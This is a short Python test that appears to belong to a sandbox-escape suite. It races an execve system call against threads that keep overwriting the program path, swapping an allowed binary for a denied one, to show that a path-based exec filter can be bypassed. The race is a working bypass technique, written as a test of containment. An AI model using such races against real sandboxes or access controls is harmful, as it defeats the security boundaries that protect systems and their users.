"""Changes the name of a program from other threads while the kernel reads it.

group: executing
effect: proves
read: /usr/bin
run: /usr/bin/printenv
"""
import threading

EXECVE = 59
ALLOWED, DENIED = b"/usr/bin/printenv", b"/usr/bin/printf\0\0"
name = ctypes.create_string_buffer(ALLOWED, 32)
arguments = (ctypes.c_char_p * 4)(b"x", b"%s\n", arena.proof.encode())
variables = (ctypes.c_char_p * 1)()


def race():
    def change():
        while True:
            ctypes.memmove(name, DENIED, len(DENIED))
            ctypes.memmove(name, ALLOWED, len(ALLOWED))

    for _ in range(4):
        threading.Thread(target=change, daemon=True).start()
    libc.syscall(EXECVE, name, arguments, variables)
    os._exit(99)


for _ in range(40):
    fork(race)
